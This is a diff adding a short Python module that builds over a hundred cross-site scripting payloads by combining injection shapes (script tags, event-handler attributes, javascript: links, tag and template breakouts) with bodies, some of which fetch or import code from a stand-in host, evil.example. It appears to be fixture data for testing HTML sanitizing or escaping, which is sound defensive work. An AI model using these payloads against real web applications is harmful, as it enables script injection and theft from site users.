@@ -1,0 +1,31 @@
+"""Texts that have become scripts elsewhere: a hundred and more, made of a few shapes and bodies."""
+
+_BODIES = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'",
+           "document.body.innerHTML=1", "import('//evil.example/x.js')")
+_SHAPES = (
+    "<script>{}</script>",
+    "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
+    "</script><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<img src=//evil.example/p.gif onload=\"{}\">",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "\"><script>{}</script>",
+    "'\"><img src=x onerror={}>",
+    "\" onmouseover=\"{}",
+    "' autofocus onfocus='{}",
+    "javascript:{}",
+    "[link](javascript:{})",
+    "![x](//evil.example/{})",
+    "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
+    "<a href=\"javascript:{}\">here</a>",
+    "<style>@import '//evil.example';</style>{}",
+    "</textarea><script>{}</script>",
+    "</template><script>{}</script>",
+    "</title><script>{}</script>",
+    "<math><mi xlink:href=\"data:x,<script>{}</script>\">",
+    "<!--><script>{}</script>-->",
+    "{{{{ {} }}}}{{% raw %}}",
+    "event: done<br><script>{}</script>",
+)
+PAYLOADS = tuple(shape.format(body) for shape in _SHAPES for body in _BODIES)
